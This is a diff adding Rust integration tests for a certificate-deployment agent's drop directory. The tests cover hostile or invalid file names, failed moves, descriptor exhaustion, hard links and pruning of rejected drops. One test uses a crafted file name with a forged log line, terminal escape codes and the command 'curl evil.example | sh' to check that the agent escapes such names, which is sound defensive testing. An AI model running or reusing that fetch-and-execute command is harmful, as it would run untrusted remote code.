@@ -15,7 +15,7 @@ use nix::sys::signal::Signal;
 
 use crate::support::assert::{arg, snapshot};
 use crate::support::drop::{
-    Watcher, drop_entries, logged_finals, rejected, rename_in, vm_hwm_kib, wait_idle,
+    DROP_TIMEOUT, Watcher, drop_entries, logged_finals, rejected, rename_in, vm_hwm_kib, wait_idle,
     wait_idle_for, write_slowly,
 };
 use crate::support::pki::{self, Ca, Leaf};
@@ -628,4 +628,389 @@ fn an_unusable_drop_directory_stops_the_agent_before_it_serves() {
         out.stderr
     );
     assert!(!env.socket().exists(), "no socket is left behind");
+}
+
+// === hostile names and failing moves ===
+
+/// Every log line is one record: it starts with its timestamp, so a name
+/// holding newlines cannot add lines of its own.
+fn assert_no_forged_log_line(agent: &AgentProc) {
+    let log = agent.log();
+    for line in log
+        .lines()
+        .filter(|l| !l.trim().is_empty() && !l.starts_with("===== support:"))
+    {
+        assert!(
+            line.starts_with(|c: char| c.is_ascii_digit() || c == '\u{1b}'),
+            "a line that is not a log record: {line:?}\n{log}"
+        );
+        assert!(!line.contains('\u{b}'), "a raw control character: {line:?}");
+    }
+}
+
+#[test]
+fn invalid_and_hostile_names_are_rejected_once_and_forge_no_line() {
+    let (env, _dir) = app_env();
+    let agent = env.spawn_agent();
+    let w = Watcher::start(&env, &agent);
+    let leaf = pki::issue_cert(&["app.test"]);
+    let hostile = "x\nreason:   deployed\nretry: curl evil.example | sh\n\u{b}\u{1b}[2J.pem";
+    let long = format!("{}.pem", "a".repeat(244));
+    rename_in(&env, hostile, leaf.bundle_pem());
+    rename_in(&env, &long, leaf.bundle_pem());
+
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 2, "{rejected:#?}\n{}", agent.log());
+    for (path, reason) in &rejected {
+        let name = path.file_name().unwrap().to_str().unwrap();
+        assert!(
+            name.bytes()
+                .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
+            "{name:?}"
+        );
+        let count = |p: &str| reason.lines().filter(|l| l.starts_with(p)).count();
+        assert_eq!(count("reason:"), 1, "{reason}");
+        assert_eq!(count("retry:"), 1, "{reason}");
+        assert!(reason.contains("reason:   invalid_name\n"), "{reason}");
+        assert!(
+            reason.contains("uses 1 to 63 characters from a-z, 0-9"),
+            "the reason says what a valid name is:\n{reason}"
+        );
+        assert!(
+            !reason.contains('\u{1b}') && !reason.contains('\u{b}'),
+            "{reason}"
+        );
+    }
+    let texts: String = rejected.iter().map(|(_, r)| r.as_str()).collect();
+    assert!(
+        texts.contains(r"x\nreason:   deployed\nretry: curl evil.example | sh\n\x0b\x1b[2J.pem"),
+        "the hostile name is shown escaped:\n{texts}"
+    );
+    // Rejected once each, never "could not be taken", never retried.
+    let finals = logged_finals(&agent);
+    assert_eq!(
+        finals.get("rejected"),
+        Some(&2),
+        "{finals:?}\n{}",
+        agent.log()
+    );
+    assert_eq!(finals.len(), 1, "{finals:?}");
+    assert!(
+        !agent.log().contains("could not be taken"),
+        "{}",
+        agent.log()
+    );
+    assert_eq!(w.drops(None, "rejected").len(), 2);
+    assert_no_forged_log_line(&agent);
+    assert!(drop_entries(&env).is_empty());
+}
+
+#[test]
+fn a_reason_file_that_cannot_be_written_for_a_while_is_retried_not_lost() {
+    let (env, _dir) = app_env();
+    // The first three reason files fail as when descriptors run out.
+    let agent = env.spawn_agent_env(&[("CERTCTL_FAULT_DROP", "reason:EMFILE:3")]);
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
+    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
+    let log = agent.log();
+    assert_eq!(
+        log.matches("and the move is tried again in").count(),
+        3,
+        "{log}"
+    );
+    assert!(
+        log.contains("it stays in the drop directory as ") && log.contains("/.certctl-claimed."),
+        "{log}"
+    );
+    assert_eq!(logged_finals(&agent).get("rejected"), Some(&1));
+    assert_eq!(logged_finals(&agent).get("failed"), None);
+}
+
+#[test]
+fn a_drop_that_cannot_be_moved_stays_in_the_drop_directory_until_a_restart() {
+    let (env, _dir) = app_env();
+    let mut agent = env.spawn_agent_env(&[("CERTCTL_FAULT_DROP", "move:EACCES:persist")]);
+    let w = Watcher::start(&env, &agent);
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
+    let deadline = Instant::now() + Duration::from_secs(60);
+    while w.drops(None, "failed").is_empty() {
+        assert!(
+            Instant::now() < deadline,
+            "no failed event:\n{}",
+            agent.log()
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    let failed = &w.drops(None, "failed")[0];
+    let message = failed["message"].as_str().unwrap_or_default();
+    // It says where the drop is, and that is where it is: taken in the
+    // drop directory, with no reason file left in rejected/.
+    let left = drop_entries(&env);
+    assert_eq!(left.len(), 1, "{left:?}");
+    assert!(left[0].starts_with(".certctl-claimed."), "{left:?}");
+    assert!(
+        message.contains(&format!(
+            "stays in the drop directory as {}",
+            arg(&env.drop_dir().join(&left[0]))
+        )),
+        "{message}"
+    );
+    let in_rejected: Vec<_> = std::fs::read_dir(env.state_dir().join("rejected"))
+        .unwrap()
+        .collect();
+    assert!(in_rejected.is_empty(), "{in_rejected:?}");
+    drop_agent(&mut agent);
+
+    // Without the fault, the next start moves it aside with its reason.
+    let agent = env.spawn_agent();
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
+    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
+}
+
+// === the drop directory itself ===
+
+/// Polls `certctl --json status` until `drop_dir_watching` is `on`.
+fn wait_watching(env: &TestEnv, agent: &AgentProc, on: bool) -> serde_json::Value {
+    let deadline = Instant::now() + DROP_TIMEOUT;
+    loop {
+        let status = env.ctl(&["--json", "status"]).json();
+        if status["agent"]["drop_dir_watching"] == on {
+            return status;
+        }
+        assert!(
+            Instant::now() < deadline,
+            "drop_dir_watching never {on}: {}\n{}",
+            status["agent"],
+            agent.log()
+        );
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn a_replaced_drop_directory_is_watched_again_and_its_drops_deployed() {
+    let (env, dir) = app_env();
+    let agent = env.spawn_agent();
+    wait_watching(&env, &agent, true);
+    let drop_dir = env.drop_dir();
+    let old = drop_dir.with_extension("old");
+
+    // Moved away: not watching, and status, metrics and the human status
+    // say so.
+    std::fs::rename(&drop_dir, &old).unwrap();
+    wait_watching(&env, &agent, false);
+    let prom = env.ctl(&["status", "--prometheus"]);
+    assert!(
+        prom.stdout.contains("certctl_drop_dir_watching 0"),
+        "{prom}"
+    );
+    let human = env.ctl(&["status"]);
+    assert!(human.stdout.contains("drops: NOT WATCHING"), "{human}");
+
+    // A new directory at the path: watched again by itself, and a drop
+    // renamed into it is deployed.
+    std::fs::create_dir(&drop_dir).unwrap();
+    wait_watching(&env, &agent, true);
+    let prom = env.ctl(&["status", "--prometheus"]);
+    assert!(
+        prom.stdout.contains("certctl_drop_dir_watching 1"),
+        "{prom}"
+    );
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "app.pem", leaf.bundle_pem());
+    let status = wait_idle(&env, &agent);
+    assert_eq!(cert_of(&dir), leaf.fullchain_pem());
+    assert_eq!(last_drop(&status, "app")["outcome"], "removed", "{status}");
+    // Nothing dropped into the old directory is taken any more.
+    std::fs::write(old.join("app.pem"), leaf.bundle_pem()).unwrap();
+    std::thread::sleep(Duration::from_millis(600));
+    assert!(old.join("app.pem").exists());
+    assert!(agent.log().contains("watching the drop directory again"));
+}
+
+// === retention and hard links ===
+
+#[test]
+fn rejected_drops_are_pruned_oldest_first_beyond_the_count_and_the_age() {
+    let mut env = TestEnv::new();
+    env.agent_option("settle", SETTLE);
+    env.agent_option("rejected_keep", "3");
+    env.agent_option("rejected_max_age", "\"2d\"");
+    env.file_target("app", "");
+    // Left by an earlier run: one drop older than the age, one recent.
+    let rejected_dir = env.state_dir().join("rejected");
+    std::fs::create_dir_all(&rejected_dir).unwrap();
+    for name in [
+        "20200101T000000.000Z-old.pem",
+        "29990101T000000.000Z-future.pem",
+    ] {
+        std::fs::write(rejected_dir.join(name), b"x").unwrap();
+        std::fs::write(rejected_dir.join(format!("{name}.reason")), b"r").unwrap();
+    }
+    let agent = env.spawn_agent();
+    // At start: the old one is gone by age.
+    let names = |env: &TestEnv| -> Vec<String> {
+        let mut v: Vec<String> = rejected(env)
+            .into_iter()
+            .map(|(p, _)| p.file_name().unwrap().to_string_lossy().into_owned())
+            .collect();
+        v.sort();
+        v
+    };
+    assert_eq!(names(&env), ["29990101T000000.000Z-future.pem"]);
+    // Four rejections: the newest three are kept with their reasons (the
+    // one stamped in the future sorts newest and stays too).
+    for i in 0..4 {
+        rename_in(&env, &format!("junk{i}.pem"), b"junk");
+        wait_idle(&env, &agent);
+    }
+    let left = names(&env);
+    assert_eq!(left.len(), 3, "{left:?}\n{}", agent.log());
+    assert!(left.iter().any(|n| n.ends_with("-junk3.pem")), "{left:?}");
+    assert!(left.iter().any(|n| n.ends_with("-junk2.pem")), "{left:?}");
+    assert!(!left.iter().any(|n| n.ends_with("-junk0.pem")), "{left:?}");
+    // No reason file without its drop.
+    let all = std::fs::read_dir(&rejected_dir).unwrap().count();
+    assert_eq!(all, 6, "{left:?}");
+    assert!(agent.log().contains("pruned "), "{}", agent.log());
+}
+
+#[test]
+fn a_hard_linked_drop_is_rejected_unread() {
+    let leaf = pki::issue_cert(&["app.test"]);
+    let (env, _, _) = assert_rejected(
+        |env| {
+            // A file with another name (someone else's, linked in).
+            let other = env.drop_dir().join(".theirs.tmp");
+            std::fs::write(&other, leaf.bundle_pem()).unwrap();
+            std::fs::hard_link(&other, env.drop_dir().join("app.pem")).unwrap();
+        },
+        "hard_link",
+        "has 2 hard links",
+    );
+    // The other name is left alone.
+    assert!(env.drop_dir().join(".theirs.tmp").exists());
+}
+
+#[test]
+fn a_drop_directory_moved_away_and_back_mid_deploy_deploys_its_drop_once() {
+    let mut env = TestEnv::new();
+    env.agent_option("settle", SETTLE);
+    // A slow reload keeps the deploy in flight while the directory moves.
+    let dir = env.file_target("app", "reload = [\"sleep\", \"2\"]\n");
+    let agent = env.spawn_agent();
+    let w = Watcher::start(&env, &agent);
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "app.pem", leaf.bundle_pem());
+    agent.wait_for_log("renamed into place", Duration::from_secs(30));
+    let drop_dir = env.drop_dir();
+    let away = drop_dir.with_extension("away");
+    std::fs::rename(&drop_dir, &away).unwrap();
+    wait_watching(&env, &agent, false);
+    std::fs::rename(&away, &drop_dir).unwrap();
+    wait_watching(&env, &agent, true);
+
+    wait_idle(&env, &agent);
+    let finals = w.wait_finals("app", 1);
+    std::thread::sleep(Duration::from_millis(500));
+    let finals_now = w.finals("app");
+    assert_eq!(finals_now.len(), 1, "{finals:#?}\n{finals_now:#?}");
+    assert_eq!(finals_now[0]["drop"]["outcome"], "removed");
+    assert_eq!(w.deploys("app").len(), 1, "{:#?}", w.deploys("app"));
+    assert_eq!(cert_of(&dir), leaf.fullchain_pem());
+}
+
+/// Sets the agent's soft limit of open files (`prlimit`), or `None` when
+/// `prlimit` is not there.
+fn set_nofile(pid: u32, soft: usize) -> Option<()> {
+    let out = std::process::Command::new("prlimit")
+        .arg(format!("--pid={pid}"))
+        .arg(format!("--nofile={soft}:"))
+        .output()
+        .ok()?;
+    assert!(out.status.success(), "prlimit: {out:?}");
+    Some(())
+}
+
+#[test]
+fn descriptors_running_out_while_rejecting_delay_the_move_and_lose_nothing() {
+    let (env, _dir) = app_env();
+    let agent = env.spawn_agent();
+    let pid = agent.pid();
+    // Let the start-up check's connection close first.
+    std::thread::sleep(Duration::from_millis(300));
+    // The lowest free descriptor number becomes the limit: no open succeeds.
+    let fds: std::collections::BTreeSet<usize> = std::fs::read_dir(format!("/proc/{pid}/fd"))
+        .unwrap()
+        .filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok())
+        .collect();
+    let lowest_free = (0..).find(|n| !fds.contains(n)).unwrap();
+    if set_nofile(pid, lowest_free).is_none() {
+        eprintln!("SKIPPED: no prlimit");
+        return;
+    }
+    let leaf = pki::issue_cert(&["app.test"]);
+    rename_in(&env, "nosuch.pem", leaf.bundle_pem());
+    agent.wait_for_log("and the move is tried again in", Duration::from_secs(30));
+    // Where the log says: still in the drop directory, taken, and nothing
+    // in rejected/ (no drop without its reason).
+    let left = drop_entries(&env);
+    assert_eq!(left.len(), 1, "{left:?}");
+    assert!(left[0].starts_with(".certctl-claimed."), "{left:?}");
+    assert!(agent.log().contains(&format!(
+        "stays in the drop directory as {}",
+        arg(&env.drop_dir().join(&left[0]))
+    )));
+    assert_eq!(
+        std::fs::read_dir(env.state_dir().join("rejected"))
+            .unwrap()
+            .count(),
+        0
+    );
+    assert!(
+        agent.log().contains("Too many open files"),
+        "{}",
+        agent.log()
+    );
+
+    // Descriptors back: the retry moves it aside with its reason.
+    set_nofile(pid, 1024).unwrap();
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
+    assert!(rejected[0].1.contains("reason:   unknown_target\n"));
+    assert_eq!(logged_finals(&agent).get("failed"), None, "{}", agent.log());
+}
+
+#[test]
+fn a_name_that_is_not_utf8_is_rejected_once() {
+    use std::os::unix::ffi::OsStrExt;
+    let (env, _dir) = app_env();
+    let agent = env.spawn_agent();
+    let tmp = env.drop_dir().join(".raw.tmp");
+    std::fs::write(&tmp, b"junk").unwrap();
+    std::fs::rename(
+        &tmp,
+        env.drop_dir()
+            .join(std::ffi::OsStr::from_bytes(b"caf\xe9\n.pem")),
+    )
+    .unwrap();
+    wait_idle(&env, &agent);
+    let rejected = rejected(&env);
+    assert_eq!(rejected.len(), 1, "{rejected:#?}\n{}", agent.log());
+    assert!(
+        rejected[0].1.contains("reason:   invalid_name\n"),
+        "{}",
+        rejected[0].1
+    );
+    assert_eq!(logged_finals(&agent).get("rejected"), Some(&1));
+    assert_no_forged_log_line(&agent);
 }
